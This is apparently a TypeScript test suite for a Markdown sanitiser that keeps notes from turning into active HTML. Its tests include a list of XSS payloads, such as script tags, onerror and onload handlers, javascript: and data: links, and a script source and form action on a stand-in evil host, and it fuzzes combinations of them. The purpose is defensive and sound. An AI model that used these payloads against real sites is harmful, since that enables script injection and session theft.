import fc from "fast-check";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { safeNotes } from "../../../liveblogger/rules/notes.ts";

/** What a program that lets raw HTML through, as Gatsby does, makes of the Markdown. */
const careless = (markdown: string): string =>
  micromark(markdown, {
    allowDangerousHtml: true,
    allowDangerousProtocol: true,
    extensions: [gfm()],
    htmlExtensions: [gfmHtml()],
  });

/** Elements and attributes that Markdown without HTML makes, each whole: what is left of HTML without them is text. */
const HARMLESS =
  /<\/?(?:p|em|strong|del|code|pre|blockquote|ul|ol|li|h[1-6]|table|thead|tbody|tr|th|td|hr|br|a|input)(?: (?:class="(?:language-[\w+#.-]{1,30}|contains-task-list|task-list-item)"|align="(?:left|right|center)"|start="\d+"|(?:type="checkbox"|disabled=""|checked="")|title="[^"<>]*"|href="(?:https?:\/\/|mailto:|\/(?!\/))[^"<>\s\\]*"))*(?: ?\/)?>/gi;
const leftOver = (html: string): string => html.replace(HARMLESS, "");
const mustBeSafe = (notes: string): void => {
  const { markdown, html } = safeNotes(notes);
  for (const made of [html, careless(markdown)]) {
    const rest = leftOver(made);
    if (/[<>]/.test(rest)) throw new Error(`${JSON.stringify(notes)} became ${JSON.stringify(markdown)}, which is ${made}`);
  }
};

describe("notes", () => {
  it.each([
    ["plain text", "Queues wait.", "Queues wait.", "<p>Queues wait.</p>"],
    ["emphasis and code", "*a* **b** `<c>`", "*a* **b** `<c>`", "<p><em>a</em> <strong>b</strong> <code>&lt;c&gt;</code></p>"],
    ["a list", "* a\n* b", "- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"],
    ["a heading", "# Why", "# Why", "<h1>Why</h1>"],
    [
      "a link",
      "[a](https://a.example/?b=c&d)",
      "[a](https://a.example/?b=c\\&d)",
      '<p><a href="https://a.example/?b=c&amp;d">a</a></p>',
    ],
    ["a link of this site", "[a](/posts/a/)", "[a](/posts/a/)", '<p><a href="/posts/a/">a</a></p>'],
    ["an address", "<https://a.example>", "<https://a.example>", '<p><a href="https://a.example">https://a.example</a></p>'],
    ["a link by name", "[a][b]\n\n[b]: https://a.example", "[a](https://a.example)", '<p><a href="https://a.example">a</a></p>'],
    ["code", "```js\na < b\n```", "```js\na < b\n```", '<pre><code class="language-js">a &lt; b\n</code></pre>'],
    ["strokes", "~~a~~", "~~a~~", "<p><del>a</del></p>"],
    ["nothing", "", "", ""],
  ])("keep %s", (_what, notes, markdown, html) => {
    expect(safeNotes(notes)).toEqual({ markdown, html });
  });

  it("keep a table", () => {
    expect(safeNotes("| a | b |\n| - | -: |\n| 1 | 2 |").html).toContain('<td align="right">2</td>');
  });

  it.each([
    ["raw HTML in a line", "a <b onclick='x'>bold</b>", "<p>a &lt;b onclick='x'&gt;bold&lt;/b&gt;</p>"],
    ["raw HTML of its own", "<script>\nalert(1)\n</script>", "<p>&lt;script&gt;\nalert(1)\n&lt;/script&gt;</p>"],
    ["a comment", "<!-- hidden -->", "<p>&lt;!-- hidden --&gt;</p>"],
  ])("show %s as text", (_what, notes, html) => {
    expect(safeNotes(notes).html).toBe(html);
    mustBeSafe(notes);
  });

  it.each([
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](java%0ascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a](<https://a.example/\\x>)",
    "[a](relative.md)",
    "[a](../../../secret)",
    "[a](#fragment)",
    "<javascript:alert(1)>",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "[b]\n\n[b]: javascript:alert(1)\n[b]: https://a.example",
  ])("take the address from %s", (notes) => {
    const { markdown, html } = safeNotes(notes);
    expect(html).toMatch(/^<p>(a|b|javascript:alert\(1\))<\/p>$/);
    expect(careless(markdown)).toBe(html);
  });

  it("are plain text where Markdown would not come back as it was meant", () => {
    // The address is taken away, and the text that stays would be an address again.
    const { markdown, html } = safeNotes("*a* https://a.example/\\");
    expect(html).toBe("<p>*a* https://a.example/\\</p>");
    expect(careless(markdown)).toBe(html);
  });

  it.each([
    ["![the queue](https://a.example/x.png)", "<p>the queue</p>"],
    ["![](https://a.example/x.png)", "<p></p>"],
    ["![the *queue*][x]\n\n[x]: http://a.example", "<p>the queue</p>"],
    ["![a](javascript:alert(1))", "<p>a</p>"],
    ['![<img src=x onerror="alert(1)">](x)', "<p>&lt;img src=x onerror=&quot;alert(1)&quot;&gt;</p>"],
  ])("tell a picture by its description: %s", (notes, html) => {
    expect(safeNotes(notes).html.replace(/^$/, "<p></p>")).toBe(html);
    mustBeSafe(notes);
  });

  it("name no language that would be more than a name", () => {
    for (const lang of ['js"><img/src=x/onerror=alert(1)>', "js{1,2}", "a'b", "&quot;"]) {
      const { markdown } = safeNotes(`\`\`\`${lang} x=1\ncode\n\`\`\``);
      expect(fromMarkdown(markdown).children[0]).toMatchObject({ type: "code", lang: null, meta: null, value: "code" });
    }
    expect(safeNotes("```c++ {numberLines: true}\nx\n```").markdown).toBe("```c++\nx\n```");
  });

  it("have no footnotes, which would clash with another entry's", () => {
    const { markdown, html } = safeNotes("a[^1]\n\n[^1]: b <i>c</i>");
    expect(html).toBe("<p>a</p>\n<p>b &lt;i&gt;c&lt;/i&gt;</p>");
    expect(markdown).not.toContain("[^");
    expect(safeNotes("a^[b](https://b.example)").markdown).toBe("a\\^[b](https://b.example)");
  });

  it("are the same when they are made safe again", () => {
    const once = safeNotes("# a\n\n* b <c>\n\n1. d\n\n> e & f \\* g | h");
    expect(safeNotes(once.markdown)).toEqual(once);
  });
});

/** From the OWASP cheat sheet on filter evasion, and Markdown's own. */
const VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  "<svg/onload=alert(1)>",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  "<iframe src=javascript:alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>",
  "<!DOCTYPE x>",
  "<style>@import 'x'</style>",
  "<form action=//evil><input type=submit>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil>",
  "<object data=x>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script>alert(1)\\</script>",
  "`<script>`<script>alert(1)</script>",
  "``` \n<script>\n```\n<script>",
  "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
  '[x](https://a.example "\'><script>alert(1)</script>")',
  "[<script>alert(1)</script>](https://a.example)",
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/<script>)",
  "![<script>](https://a.example '<script>')",
  "| <script> | <b> |\n|-|-|\n| <img src=x onerror=alert(1)> | \\| |",
  "> <script>\n> alert(1)\n> </script>",
  "- <script>\n  alert(1)\n- </script>",
  "1. x\n\n   <div onclick=alert(1)>\n\n   y",
  "a\n<script>b",
  "<a@b.example onclick=x>",
  '<https://a.example/"onclick=alert(1)>',
  "www.a.example/<script>alert(1)</script>",
  "https://a.example/'onclick='alert(1)",
  "x ^[<script>alert(1)</script>]",
  "---\ntitle: <script>\n---",
  "\u0000<script>",
  "<\u0000script>alert(1)</script>",
  "<script\u00a0x>",
  "\u2028<script>",
];

it.each(VECTORS)("nothing runs of %j", mustBeSafe);

it("nothing runs of any mixture", () => {
  const pieces = fc.oneof(
    fc.constantFrom(...VECTORS),
    fc.constantFrom(..."<>[](){}!`*_~|#-+=:;&\"'\\/^. \n\t".split("")),
    fc.constantFrom(
      "\n\n",
      "    ",
      "  \n",
      "](",
      "<!--",
      "-->",
      "&lt;",
      "&#x3c;",
      "javascript:",
      "https://",
      "[a]: ",
      "```",
      "a",
      "1. ",
    ),
    fc.string({ unit: "binary", maxLength: 6 }),
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => mustBeSafe(parts.join(""))),
    { numRuns: 3000 },
  );
});

it("says what it said before, of ordinary notes", () => {
  const word = fc.constantFrom("queues", "wait", "a < b", "R&D", "5 * 3", "snake_case", "C#", "1. no list", "#no-heading", "[x]");
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 8 }), (words) => {
      const text = words.join(" ");
      const of = (markdown: string) =>
        JSON.stringify(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }), (key, value) =>
          key === "position" ? undefined : value,
        );
      expect(of(safeNotes(text).markdown)).toBe(of(text));
    }),
  );
});
